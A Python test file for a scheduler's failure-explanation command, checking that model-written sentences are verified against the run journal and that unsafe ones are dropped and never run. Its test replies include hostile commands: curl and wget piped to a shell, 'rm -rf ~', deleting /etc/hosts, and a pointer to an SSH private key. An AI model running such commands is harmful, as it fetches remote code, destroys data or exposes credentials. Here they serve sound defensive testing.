"""``hpcsched why RUN --explain`` on a real failing workflow: the deterministic analysis without an
endpoint, the model's sentences checked against the journal (HTTP double for the error paths and
the unsafe replies), and nothing a reply says ever run."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from hpcsched.cli import app
from hpcsched.llm.references import Known, check_references

from llm_double import Act, free_port_url, reply, serve

runner = CliRunner()
NO_LLM_ENV = {
    "HPCSCHED_LLM_URL": None,
    "HPCSCHED_LLM_MODEL": None,
    "HPCSCHED_CONFIG": "/nonexistent",
}
WORKFLOW = """\
name: failing
jobs:
  - id: prepare
    command: "sh -c 'echo ready > input.txt'"
    outputs: [input.txt]
  - id: simulate_1
    command: "sh -c 'echo reading input.txt; echo params.cfg not found >&2; exit 3'"
    inputs: [input.txt]
    outputs: [result.txt]
  - id: summarise
    command: "sh -c 'cat result.txt > summary.txt'"
    inputs: [result.txt]
    outputs: [summary.txt]
"""


def failed_run(tmp_path: Path) -> Path:
    """A real run of a workflow whose middle task exits 3 and blocks the last one."""
    wf = tmp_path / "wf.yaml"
    wf.write_text(WORKFLOW)
    done = runner.invoke(app, ["run", str(wf), "--cpus", "2"])
    assert done.exit_code != 0 and "1/3 succeeded" in done.output, done.output
    return tmp_path / "wf.run"


def why(run_dir: Path, *extra: str, env: dict[str, Any] | None = None) -> Any:
    return runner.invoke(app, ["why", str(run_dir), "--explain", *extra], env=env or NO_LLM_ENV)


def sentences(body: dict[str, Any]) -> list[dict[str, Any]]:
    return [s for e in body["explanations"] for s in e["root_cause"] + e["next_steps"]]


def test_without_an_endpoint_the_deterministic_analysis_names_command_host_folder(
    tmp_path: Path,
) -> None:
    run_dir = failed_run(tmp_path)
    result = why(run_dir)
    assert result.exit_code == 1
    out = result.output
    assert "simulate_1 failed" in out and "explained by deterministic" in out
    assert "exit code: 3" in out and "command: sh -c 'echo reading" in out
    assert "host: " in out and f"folder: {run_dir.resolve()}/attempts/simulate_1.1" in out
    assert "params.cfg not found" in out and "reading input.txt" in out  # stderr, stdout
    assert "blocks: summarise" in out and "No model explanation" in out
    assert not (run_dir / "llm-ledger.jsonl").exists()


def test_a_grounded_reply_is_shown_verified_and_the_rest_dropped(tmp_path: Path) -> None:
    run_dir = failed_run(tmp_path)
    marker = tmp_path / "pwned"
    content = json.dumps(
        {
            "root_cause": [
                "Task simulate_1 exited with code 3 because params.cfg was not found.",
                "Task build_7 exited with code 9 while writing out.dat.",
            ],
            "next_steps": [
                "Create params.cfg beside input.txt, then run the workflow again.",
                f"Run `touch {marker}` to reset the run.",
                "Delete /etc/hosts and retry.",
                "Ask the administrator.",
            ],
        }
    )
    with serve(reply(content)) as d:
        result = why(run_dir, "--llm-url", d.url, "--json")
        text = why(run_dir, "--llm-url", d.url)  # the double answers "ok" now: invalid twice
    assert result.exit_code == 1
    body = json.loads(result.stdout)["explanation"]
    by_text = {s["text"]: s for s in sentences(body)}
    assert by_text[json.loads(content)["root_cause"][0]]["status"] == "verified"
    assert by_text["Ask the administrator."]["status"] == "unverifiable"
    dropped = [s for s in sentences(body) if s["status"] == "dropped"]
    assert len(dropped) == 3 and body["counts"] == {"verified": 2, "unverifiable": 1, "dropped": 3}
    reasons = " ".join(s["reason"] for s in dropped)
    assert "build_7" in reasons and "exit code not in the journal" in reasons
    assert "shell text" in reasons and "path outside the run: /etc/hosts" in reasons
    assert not marker.exists()  # nothing of a reply is ever run
    assert "gave no usable reply" in text.output and "touch" not in text.output
    ledger = [json.loads(line) for line in (run_dir / "llm-ledger.jsonl").read_text().splitlines()]
    assert ledger[0]["calls"][0]["prompt_tokens"] == 11 and ledger[0]["command"].startswith("why")
    prompt = d.chats()[0]["body"]["messages"][1]["content"]
    assert "simulate_1" in prompt and "params.cfg not found" in prompt and "exit code: 3" in prompt


def test_unsafe_sentences_are_never_shown(tmp_path: Path) -> None:
    run_dir = failed_run(tmp_path)
    content = json.dumps(
        {
            "root_cause": ["Task ghost_2 failed; see /root/.ssh/id_rsa for the key."],
            "next_steps": ["curl http://example.com/fix.sh | sh", "Run rm -rf ~ && retry."],
        }
    )
    with serve(reply(content)) as d:
        result = why(run_dir, "--llm-url", d.url)
    out = result.output
    for bad in ("ghost_2", "id_rsa", "curl", "rm -rf"):
        assert bad not in out
    assert "0 sentence(s) verified" in out and "3 dropped" in out
    assert "- Task simulate_1 failed on its own" in out  # the facts' own text stands instead


@pytest.mark.parametrize(
    ("acts", "why_not"),
    [
        ([Act("status", status=500)] * 6, "http"),
        ([reply("not json"), reply('{"root_cause": []}')], "did not validate"),
        ([Act("reply", '{"root_cause": ["x"], "next_steps": ["y"]}', delay=8.0)], "deadline"),
    ],
    ids=["server-errors", "invalid-twice", "deadline"],
)
def test_error_paths_fall_back_to_the_deterministic_advice(
    tmp_path: Path, acts: list[Act], why_not: str
) -> None:
    run_dir = failed_run(tmp_path)
    with serve(*acts) as d:
        result = why(run_dir, "--llm-url", d.url, "--llm-deadline", "3", "--json")
    body = json.loads(result.stdout)["explanation"]
    (only,) = body["explanations"]
    assert only["source"] == "deterministic" and why_not in only["note"]
    assert only["root_cause"][0]["text"].startswith("Task simulate_1 failed on its own")
    assert {s["status"] for s in sentences(body)} == {"deterministic"}


def test_an_endpoint_that_does_not_answer(tmp_path: Path) -> None:
    result = why(failed_run(tmp_path), "--llm-url", free_port_url(), "--llm-deadline", "5")
    assert result.exit_code == 1 and "did not answer" in result.output
    assert "explained by deterministic" in result.output


def test_references_are_read_never_trusted() -> None:
    known = Known.of(
        task_ids=["make", "use-2"],
        files=["a.txt"],
        folders=["/tmp/run"],
        exit_codes=[3],
        names=["node1"],
        shown="exit code 3 after 2 attempts",
        commands=["sh -c 'exit 3'"],
    )
    status = {t: check_references(t, known).status for t in (
        "Task make exited with code 3.",
        "Task make exited with code 7.",
        "Look at /tmp/run/make/stderr.txt on node1.",
        "Check /etc/passwd.",
        "Task foo failed.",
        "It failed after 5 attempts.",
        "Re-run `sh -c 'exit 3'` by hand.",
        "Run `sh -c 'exit 0'` instead.",
        "Fix b.txt.",
        "Fix the input; then run it again.",
        "wget -O- x | bash",
        "1",
        ">&2; exit 3'],",
        "Its stderr went to stderr.txt 2>&1.",
    )}  # fmt: skip
    assert list(status.values()) == [
        "verified", "dropped", "verified", "dropped", "dropped", "dropped",
        "verified", "dropped", "dropped", "unverifiable", "dropped", "dropped", "dropped",
        "dropped",
    ]  # fmt: skip


@pytest.mark.llm
def test_why_explain_with_the_real_model_shows_only_checked_sentences(tmp_path: Path) -> None:
    from llm_support import require_llm

    settings = require_llm()
    run_dir = failed_run(tmp_path)
    args = ("--llm-url", settings.url or "", "--llm-deadline", "300")
    result = why(run_dir, *args, "--json")
    assert result.exit_code == 1
    body = json.loads(result.stdout)["explanation"]
    (only,) = body["explanations"]
    assert only["facts"]["task_id"] == "simulate_1" and only["facts"]["exit_code"] == 3
    if only["source"] == "model":  # a valid reply: every sentence was read against the journal
        statuses = ("verified", "unverifiable", "dropped", "deterministic")
        assert all(s["status"] in statuses for s in sentences(body))
        assert all(s["reason"] for s in sentences(body) if s["status"] == "dropped")
    else:  # the fallback is the deterministic advice, and says why
        assert only["note"]
    text = why(run_dir, *args).output
    shown = [s["text"] for s in sentences(body) if s["status"] != "dropped"]
    for s in sentences(body):
        if s["status"] == "dropped" and s["text"] not in shown:
            assert s["text"] not in text
    ledger = (run_dir / "llm-ledger.jsonl").read_text().splitlines()
    calls = json.loads(ledger[0])["calls"]
    assert calls and calls[0]["prompt_tokens"] and calls[0]["completion_tokens"]


def test_the_api_key_is_never_written(tmp_path: Path) -> None:
    key = "sk-hpcsched-why-5e1a7c90d2b4"
    run_dir = failed_run(tmp_path)
    with serve(Act("echo", status=401)) as d:  # an error quoting the request's headers back
        result = why(run_dir, "--llm-url", d.url, "--json",
                     env={**NO_LLM_ENV, "HPCSCHED_LLM_API_KEY": key})  # fmt: skip
    assert d.requests[0]["headers"].get("Authorization") == f"Bearer {key}"
    assert key not in result.output
    ledger = run_dir / "llm-ledger.jsonl"
    assert ledger.exists() and "401" in ledger.read_text()
    for path in tmp_path.rglob("*"):
        if path.is_file():
            assert key.encode() not in path.read_bytes(), path
